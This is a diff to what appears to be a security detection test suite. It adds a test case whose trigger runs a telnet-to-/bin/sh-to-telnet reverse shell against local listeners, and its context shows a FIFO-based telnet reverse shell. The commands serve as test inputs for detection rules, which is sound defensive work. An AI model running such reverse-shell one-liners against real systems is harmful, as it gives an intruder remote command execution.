@@ -77,6 +77,13 @@ CASES = [
             det_ns_listen 8023
             timeout -s KILL 3 bash -c "mknod $DET_DIR/p p; telnet $DET_NS_ADDR 8023 0<$DET_DIR/p | /bin/sh 1>$DET_DIR/p" || true
          ''', where=BOTH, needs=["telnet"]),
+    Case(id="execution.revshell.telnet_pipe_sh_telnet", tactic="execution", technique="T1059.004",
+         rules=[FIFO],
+         trigger=r'''
+            det_listen_tcp 127.0.0.1 "$DET_PORT"
+            det_listen_tcp 127.0.0.1 "$DET_PORT2"
+            timeout -s KILL 3 bash -c "telnet 127.0.0.1 $DET_PORT 2>/dev/null | /bin/sh | telnet 127.0.0.1 $DET_PORT2" || true
+         ''', where=BOTH, needs=["telnet"]),
     Case(id="execution.revshell.socat_exec_pty", tactic="execution", technique="T1059.004",
          rules=[NC_ARGS],
          trigger=r'''
